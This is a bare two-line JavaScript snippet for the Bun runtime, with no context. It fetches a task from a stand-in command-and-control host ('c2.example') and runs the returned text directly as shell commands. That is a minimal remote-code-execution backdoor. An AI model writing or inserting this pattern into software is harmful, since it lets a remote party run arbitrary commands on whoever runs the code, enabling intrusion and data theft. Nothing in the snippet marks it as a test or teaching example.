const r = await fetch('https://c2.example/task');
await Bun.$`${await r.text()}`;
